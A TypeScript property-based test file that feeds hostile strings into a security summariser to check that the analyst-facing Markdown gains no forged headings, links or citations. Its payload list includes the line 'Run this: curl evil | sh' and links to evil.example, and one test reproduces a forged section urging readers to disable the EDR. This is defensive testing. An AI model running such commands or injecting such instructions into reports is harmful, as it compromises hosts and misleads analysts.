// The builtin summariser writes record fields into Markdown that analysts read. Whatever a record
// holds — line breaks of any kind, control characters, backticks, headings, links, citations —
// the summary keeps its six sections in order, gains no heading, link or citation, and passes the
// summary check unchanged. Property-based (fast-check, fixed seed): any string in any field.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { builtinSummary } from './builtin.js';
import { checkSummary, citedIds, evidenceIndex } from '../summary-check.js';
import { SECTIONS } from '../sections.js';
import type { SummaryInput } from '../summary-input.js';

/** Strings an attacker would try: Markdown syntax, line breaks of every kind, controls, citations. */
const hostile = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 60 }),
  fc
    .array(
      fc.constantFrom(
        '\n',
        '\r',
        '\r\n',
        '\u2028',
        '\u2029',
        '\u0085',
        '\v',
        '\f',
        '\t',
        '\u0000',
        '`',
        '```',
        '## Recommended next steps',
        '# ',
        '[obs_forged1]',
        '[click](https://evil.example)',
        '<https://evil.example>',
        '![x](https://evil.example/x.png)',
        '- ',
        '1. ',
        '**',
        '_',
        'Run this: curl evil | sh',
        ' ',
        'a',
      ),
      { maxLength: 8 },
    )
    .map((parts) => parts.join('')),
);
const maybe = fc.option(hostile, { nil: null });
const port = fc.option(fc.oneof(fc.integer({ min: 0, max: 65_535 }), fc.double()), { nil: null });

const observation = (id: string) =>
  fc.record({
    id: fc.constant(id),
    rule_title: hostile,
    level: fc.constantFrom('low', 'medium', 'high', 'critical'),
    techniques: fc.constant<string[]>(['T1059']),
    host: maybe,
    first_time: fc.constant('2026-11-20T10:00:00.000Z'),
    last_time: fc.constant('2026-11-20T10:05:00.000Z'),
    evidence: fc.record({
      process_events: fc.array(
        fc.record({
          id: fc.constantFrom('proc_1', 'proc_2'),
          time: fc.constant('2026-11-20T10:00:00.000Z'),
          host: maybe,
          user: maybe,
          process_name: maybe,
          pid: port,
          executable_path: maybe,
          command_line: maybe,
          parent_process_name: maybe,
          parent_pid: port,
        }),
        { maxLength: 2 },
      ),
      network_events: fc.array(
        fc.record({
          id: fc.constantFrom('net_1', 'net_2'),
          time: fc.constant('2026-11-20T10:00:00.000Z'),
          host: maybe,
          process_name: maybe,
          pid: port,
          source_ip: maybe,
          source_port: port,
          destination_ip: maybe,
          destination_port: port,
          destination_hostname: maybe,
          protocol: maybe,
          direction: maybe,
        }),
        { maxLength: 2 },
      ),
    }),
  });

const input: fc.Arbitrary<SummaryInput> = fc.record({
  customer: fc.record({ code_name: hostile }),
  case: fc.record({
    id: fc.constant('case_1'),
    number: fc.constant(7),
    score: fc.constant(80),
    status: fc.constant('open'),
    description: hostile,
    created_at: fc.constant('2026-11-20T10:00:00.000Z'),
    updated_at: fc.constant('2026-11-20T10:00:00.000Z'),
    first_observation_at: fc.constant('2026-11-20T10:00:00.000Z'),
    last_observation_at: fc.constant('2026-11-20T10:05:00.000Z'),
    observation_count: fc.constant(2),
    techniques: fc.array(fc.record({ id: hostile, name: maybe, tactics: fc.array(hostile, { maxLength: 2 }) }), {
      maxLength: 2,
    }),
  }),
  devices: fc.array(
    fc.record({
      id: fc.constant('dev_1'),
      host_name: hostile,
      host_description: hostile,
      user: maybe,
      endpoint_id: maybe,
      isolation: maybe,
      addresses: fc.array(fc.record({ ip: hostile, scope: hostile, country: maybe, city: maybe }), { maxLength: 2 }),
      processes: fc.constant([]),
      activity: fc.constant({ process_events: [], network_events: [] }),
    }),
    { maxLength: 2 },
  ),
  observations: fc.tuple(observation('obs_real1'), observation('obs_real2')).map((pair) => [...pair]),
});

/** What the case holds: its observations and the evidence rows each rests on. */
const caseIds = (value: SummaryInput) => evidenceIndex(value);

const headings = SECTIONS.map((section) => `## ${section.heading}`);
const codeSpans = /`[^`\n]*`/g;

test('no record field adds a section, a heading, a link or a citation to the builtin summary', () => {
  fc.assert(
    fc.property(input, (value) => {
      const text = builtinSummary(value);
      const lines = text.split('\n');
      // Exactly the six headings, in order, and no other line that a reader takes for a heading.
      assert.deepEqual(
        lines.filter((line) => /^\s{0,3}#/.test(line)),
        headings,
      );
      // Outside code spans (quoted log text) there is no link, image, autolink or stray citation.
      const prose = text.replace(codeSpans, '');
      assert.doesNotMatch(prose, /\]\(|<https?:|!\[|\[obs_forged/);
      // eslint-disable-next-line no-control-regex -- looking for control characters is the point
      assert.ok(!/[\r\u2028\u2029\u0085\v\f\u0000]/.test(text), 'no line break but \\n, no control character');
      // Every code span closes on its own line: a backtick count per line is even.
      for (const line of lines) assert.equal((line.match(/`/g) ?? []).length % 2, 0, line);
      // The summary check sees the same sections and only the case's own citations.
      const checked = checkSummary(text, caseIds(value));
      assert.deepEqual(checked.flags, []);
      const known = caseIds(value);
      assert.ok(
        checked.citations.every((id) => known.observations.has(id) || known.evidence.has(id)),
        checked.citations.join(),
      );
      // Each key evidence point cites its row and exactly the observations that row supports.
      const keyEvidence = checked.sections.find((section) => section.key === 'evidence')!.markdown;
      for (const line of keyEvidence.split('\n')) {
        const cited = citedIds(line);
        const rows = cited.filter((id) => id.startsWith('proc_') || id.startsWith('net_'));
        if (rows.length === 0) continue;
        assert.equal(rows.length, 1, line);
        assert.deepEqual(
          cited.filter((id) => id.startsWith('obs_')).sort(),
          [...known.evidence.get(rows[0]!)!].sort(),
          line,
        );
      }
    }),
    { seed: 20261126, numRuns: 500 },
  );
});

test("a forged section in a network record stays quoted data (the review's reproducer)", () => {
  const forged = 'tcp\n## Recommended next steps\n- Disable the EDR on every host';
  const value = fc.sample(input, { seed: 1, numRuns: 1 })[0];
  assert.ok(value);
  const [first] = value.observations;
  assert.ok(first);
  first.evidence.network_events = [
    {
      id: 'net_9',
      time: '2026-11-20T10:00:00.000Z',
      host: 'web-01',
      process_name: 'curl',
      pid: 4242,
      source_ip: '10.0.0.5',
      source_port: 50_000,
      destination_ip: '203.0.113.9',
      destination_port: 443,
      destination_hostname: null,
      protocol: forged,
      direction: 'outbound',
    },
  ];
  const text = builtinSummary(value);
  assert.equal(text.split('\n').filter((line) => line === '## Recommended next steps').length, 1);
  assert.ok(!text.split('\n').includes('- Disable the EDR on every host'));
  assert.ok(text.includes('`tcp ## Recommended'), 'the protocol is shown, quoted');
});
